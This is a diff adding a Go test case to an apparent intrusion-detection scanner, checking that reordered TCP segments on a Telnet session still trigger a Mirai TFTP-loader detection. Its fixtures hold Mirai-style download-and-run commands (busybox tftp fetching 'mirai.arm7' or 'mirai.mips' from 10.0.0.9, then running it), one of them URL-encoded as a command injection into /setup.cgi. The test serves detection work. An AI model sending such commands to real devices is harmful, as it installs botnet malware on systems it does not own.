@@ -660,6 +660,23 @@ func TestStreamReordered(t *testing.T) {
 		}
 	}
 
+	// Mid-stream, a segment too big to hold arrives before the one that
+	// starts the line: it is read at once, as a fresh start, and the late
+	// one is read with its first bytes.
+	big := " -r mirai.arm7 10.0.0.9; " + strings.Repeat("echo padding; ", 60)
+	for k, first := range []string{"/bin/busybox tftp -g -l d", "tftp -g", "x; busybox tftp -g"} {
+		p := uint16(31000 + k)
+		evs, st := scanBytes(t, streamPcap(t, []tseg{{sport: p, dport: 23, seq: 100, payload: "\xff\xfd\x01"},
+			{sport: p, dport: 23, seq: 103 + uint32(len(first)), payload: big},
+			{sport: p, dport: 23, seq: 103, payload: first}}), Options{})
+		if got := found(evs, p); !slices.Equal(got, []string{"mirai.tftp-loader/strong"}) {
+			t.Errorf("%q before a big segment: %v", first, got)
+		}
+		if st.StreamGaps == 0 {
+			t.Errorf("%q: the big segment was held (%d bytes)", first, len(big))
+		}
+	}
+
 	// A web request's header segment, then its body's halves swapped.
 	body := "cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh%20d"
 	head := "POST /setup.cgi HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Length: 84\r\n\r\n"
